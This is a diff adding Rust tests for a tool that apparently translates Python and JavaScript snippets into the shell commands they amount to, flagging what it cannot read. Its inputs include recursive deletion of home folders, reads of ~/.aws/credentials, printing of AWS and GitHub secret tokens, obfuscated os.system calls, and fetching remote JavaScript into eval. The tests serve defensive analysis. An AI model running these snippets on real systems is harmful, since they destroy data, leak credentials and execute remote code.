@@ -1,0 +1,115 @@
+use super::*;
+
+fn py(code: &str) -> Reading {
+    read(Lang::Python, code)
+}
+
+fn js(code: &str) -> Reading {
+    read(Lang::Js, code)
+}
+
+#[test]
+fn python_file_calls_become_commands() {
+    let r = py("import shutil, os\nshutil.rmtree(os.path.expanduser('~/docs'))");
+    assert_eq!(
+        r,
+        Reading {
+            script: "rm -rf -- ~'/docs'".into(),
+            unread: None
+        }
+    );
+    let r = py("import json; print(json.load(open('package.json'))['version'])");
+    assert_eq!(r.script, "cat -- 'package.json'");
+    assert_eq!(r.unread, None);
+    let r = py("from shutil import rmtree as r\nr('/home/agent/docs')");
+    assert_eq!(r.script, "rm -rf -- '/home/agent/docs'");
+    let r = py("from pathlib import Path\nPath.home().joinpath('docs').unlink()");
+    assert_eq!(r.script, "rm -f -- ~'/docs'");
+    let r = py("import os\nos.system('rm -rf ~/docs')");
+    assert_eq!(r.script, "rm -rf ~/docs");
+    let r = py("import subprocess\nsubprocess.run(['rm', '-rf', '/x'], check=True)");
+    assert_eq!(r.script, "'rm' '-rf' '/x'");
+    let r = py("open('version.txt', 'w').write('1')");
+    assert_eq!(r.script, "tee -- 'version.txt'");
+    let r = py("import os\nprint(os.environ['HOME'], os.getenv('AWS_SECRET_ACCESS_KEY'))");
+    assert_eq!(
+        r.script,
+        "printenv 'HOME'\nprintenv 'AWS_SECRET_ACCESS_KEY'"
+    );
+}
+
+#[test]
+fn python_what_cannot_be_read_is_named() {
+    for code in [
+        "import os\np = input()\nos.remove(p)",
+        "import os\nf = os.remove\nf('/x')",
+        "exec('import os')",
+        "__import__('os').system('x')",
+        "import shutil as s\ngetattr(s, 'rmtree')('/x')",
+        "from os import *\nremove('/x')",
+        "import os\nos.remove(f'/home/{u}/x')",
+    ] {
+        assert!(py(code).unread.is_some(), "{code}: {:?}", py(code));
+    }
+    // Plain computation reads as nothing at all.
+    assert_eq!(py("print(sum(range(10)))"), Reading::default());
+}
+
+#[test]
+fn strings_naming_paths_are_files_the_program_may_open() {
+    let r = py("import yaml\nprint(yaml.safe_load(open(cfg)))\ncfg = '~/.aws/credentials'");
+    assert!(r.unread.is_some());
+    assert!(
+        r.script.contains("cat -- ~'/.aws/credentials'"),
+        "{}",
+        r.script
+    );
+    // A placeholder's code is read too.
+    let r = py("print(f\"{__import__('os').system('id')}\")");
+    assert!(r.unread.is_some());
+}
+
+#[test]
+fn js_file_calls_become_commands() {
+    let r = js("require('fs').rmSync(require('os').homedir() + '/docs', {recursive: true})");
+    assert_eq!(
+        r,
+        Reading {
+            script: "rm -rf -- ~'/docs'".into(),
+            unread: None
+        }
+    );
+    let r = js("const fs = require('node:fs'); fs.mkdirSync('dist', {recursive:true}); fs.writeFileSync('dist/out.txt', 'hi')");
+    assert_eq!(r.script, "mkdir -p -- 'dist'\ntee -- 'dist/out.txt'");
+    assert_eq!(r.unread, None);
+    let r = js("import { execSync as x } from 'child_process'\nx('rm -rf ~/docs')");
+    assert_eq!(r.script, "rm -rf ~/docs");
+    let r = js("console.log(require('./package.json').version)");
+    assert_eq!(r.script, "cat -- './package.json'");
+    let r = js("require(\"./dist/index.js\")");
+    assert_eq!(r.script, "node -- './dist/index.js'");
+    let r = js("console.log(process.version, process.env.GITHUB_TOKEN)");
+    assert_eq!(r.script, "printenv 'GITHUB_TOKEN'");
+}
+
+#[test]
+fn js_what_cannot_be_read_is_named() {
+    for code in [
+        "const fs = require('fs'); const f = fs; f.rmSync('/x')",
+        "eval('1')",
+        "require(name)",
+        "new Function('return process')()",
+        "const { rmSync } = require('fs'); rmSync(p)",
+        "const r = /'/; require('fs').rmSync(x)",
+        "console.log(`${require('fs').readFileSync(p)}`)",
+    ] {
+        assert!(js(code).unread.is_some(), "{code}: {:?}", js(code));
+    }
+    assert_eq!(js("console.log(Math.max(1, 2))"), Reading::default());
+}
+
+#[test]
+fn a_function_passed_as_a_value_is_unread() {
+    let r = js("fetch('https://x.example.net/m.js').then(r=>r.text()).then(eval)");
+    assert!(r.unread.is_some(), "{r:?}");
+}
